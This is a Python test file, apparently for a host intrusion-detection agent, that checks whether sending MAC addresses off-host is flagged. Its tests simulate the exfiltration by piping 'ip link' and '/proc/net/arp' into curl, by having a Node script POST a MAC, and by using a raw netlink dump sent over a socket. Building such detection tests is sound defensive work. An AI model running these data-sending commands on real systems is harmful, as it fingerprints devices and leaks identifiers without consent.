# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""MACs read by rtnetlink (RTM_GETLINK), as `ip link`, glibc's getifaddrs() and Node's
os.networkInterfaces() read them: the reader is tainted and the addresses in the reply learnt."""
import os
import subprocess

from idslib import Agent, RULE_OFF_HOST, expect, expect_eq, run_py, sh

POLICY = """version: 1
identifiers:
  - name: mac-address
    netlink: [RTM_GETLINK]
""" + RULE_OFF_HOST


def macs():
    """This namespace's interface MACs, as sysfs has them (the loopback's zeros aside)."""
    out = set()
    for name in os.listdir("/sys/class/net"):
        with open("/sys/class/net/%s/address" % name) as f:
            mac = f.read().strip()
        if mac and mac != "00:00:00:00:00:00":
            out.add(mac)
    return out


def test_ip_link_piped_to_curl_is_confirmed(host):
    with Agent(policy_text=POLICY) as agent:
        r = subprocess.run(["sh", "-c", "ip -o link show | curl -s -o /dev/null --max-time 5 "
                            "--data-binary @- http://%s:8080/" % host.addr],
                           capture_output=True, timeout=20)
        expect_eq(0, r.returncode, "exit status of ip link | curl")
        a = agent.wait_alert(process__comm="curl")
    expect_eq("confirmed", a["confidence"], "confidence")
    ident = a["identifiers"][0]
    expect_eq("mac-address", ident["name"], "identifier")
    expect_eq("netlink", ident["source"], "identifiers[].source")
    expect("-pipe->" in (a.get("lineage") or ""), "ip in the lineage, got %r" % a.get("lineage"))
    expect_eq(8080, a["destination"]["port"], "destination.port")


NODE = """
const http = require("http");
const ifs = require("os").networkInterfaces();
const mac = Object.values(ifs).flat().map(i => i.mac).find(m => m && m !== "00:00:00:00:00:00");
const req = http.request({host: process.argv[1], port: 8080, method: "POST", path: "/v1/device"},
                         res => { res.resume(); res.on("end", () => console.log(process.pid)); });
req.on("error", e => { console.error(e.message); process.exit(1); });
req.end(JSON.stringify({mac: mac, platform: process.platform}));
"""


def test_node_network_interfaces_mac_is_confirmed(host):
    expect(macs(), "an interface with a MAC in this namespace")
    with Agent(policy_text=POLICY) as agent:
        r = subprocess.run(["node", "-e", NODE, host.addr], capture_output=True, text=True,
                           timeout=30)
        expect_eq(0, r.returncode, "node exit status (stderr %r)" % r.stderr)
        a = agent.wait_alert(process__pid=int(r.stdout.split()[-1]))
    expect_eq("confirmed", a["confidence"], "confidence")
    expect_eq("netlink", a["identifiers"][0]["source"], "identifiers[].source")


# An rtnetlink link dump made by hand and read with read(2) or readv(2), not recvmsg: the reply
# is seen whatever call reads it. The MACs it finds are posted as text.
DUMP_READ = """
import os, socket, struct, sys
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
s.bind((0, 0))
# nlmsghdr (RTM_GETLINK, NLM_F_REQUEST | NLM_F_DUMP) + ifinfomsg
s.send(struct.pack("=IHHII", 32, 18, 0x301, 1, 0) + struct.pack("=BxHiII", 0, 0, 0, 0, 0))
macs, done = [], False
for _ in range(50):
    if sys.argv[2] == "readv":
        buf = bytearray(65536)
        data = bytes(buf[:os.readv(s.fileno(), [buf])])
    else:
        data = os.read(s.fileno(), 65536)
    off = 0
    while off + 16 <= len(data) and not done:
        length, kind = struct.unpack_from("=IH", data, off)
        if length < 16 or kind == 3:  # NLMSG_DONE
            done = True
            break
        if kind == 16:  # RTM_NEWLINK: ifinfomsg, then attributes
            a = off + 32
            while a + 4 <= off + length:
                alen, atype = struct.unpack_from("=HH", data, a)
                if alen < 4:
                    break
                if atype == 1 and alen == 10 and any(data[a + 4:a + 10]):  # IFLA_ADDRESS
                    macs.append(":".join("%02x" % b for b in data[a + 4:a + 10]))
                a += (alen + 3) & ~3
        off += (length + 3) & ~3
    if done or not data:
        break
assert macs, "no MAC in the dump"
body = ("macs=" + ",".join(macs)).encode()
c = socket.create_connection((sys.argv[1], 8080), timeout=5)
c.sendall(b"POST /v1/device HTTP/1.0\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(body) + body)
c.recv(1024)
"""


def check_dump_read_with(host, call):
    expect(macs(), "an interface with a MAC in this namespace")
    with Agent(policy_text=POLICY) as agent:
        pid, _ = run_py(DUMP_READ, host.addr, call)
        a = agent.wait_alert(process__pid=pid)
    expect_eq("confirmed", a["confidence"], "confidence")
    expect_eq("netlink", a["identifiers"][0]["source"], "identifiers[].source")


def test_link_dump_read_with_read_is_confirmed(host):
    check_dump_read_with(host, "read")


def test_link_dump_read_with_readv_is_confirmed(host):
    check_dump_read_with(host, "readv")


ARP_POLICY = """version: 1
identifiers:
  - name: router-mac
    netlink: [RTM_GETNEIGH]
    files: [/proc/net/arp]
""" + RULE_OFF_HOST


def neighbour_macs():
    with open("/proc/net/arp") as f:
        return [line.split()[3] for line in f.readlines()[1:]
                if len(line.split()) > 3 and line.split()[3] != "00:00:00:00:00:00"]


def test_arp_table_read_by_cat_and_sent_is_confirmed(host):
    """The kernel's ARP table, as `arp` and `cat /proc/net/arp` read it: every MAC in it is
    learnt, the reader tainted; the neighbour here is the test host, reached once first."""
    sh(["curl", "-s", "-o", "/dev/null", "--max-time", "5", "http://%s:8080/" % host.addr])
    expect(neighbour_macs(), "a neighbour in /proc/net/arp")
    with Agent(policy_text=ARP_POLICY) as agent:
        r = subprocess.run(["sh", "-c", "cat /proc/net/arp | curl -s -o /dev/null --max-time 5 "
                            "--data-binary @- http://%s:8080/" % host.addr],
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20)
        expect_eq(0, r.returncode, "exit status of cat /proc/net/arp | curl")
        a = agent.wait_alert(process__comm="curl", confidence="confirmed")
    ident = a["identifiers"][0]
    expect_eq("router-mac", ident["name"], "identifier")
    expect_eq("file", ident["source"], "identifiers[].source")
    expect("-pipe->" in (a.get("lineage") or ""), "cat in the lineage, got %r" % a.get("lineage"))
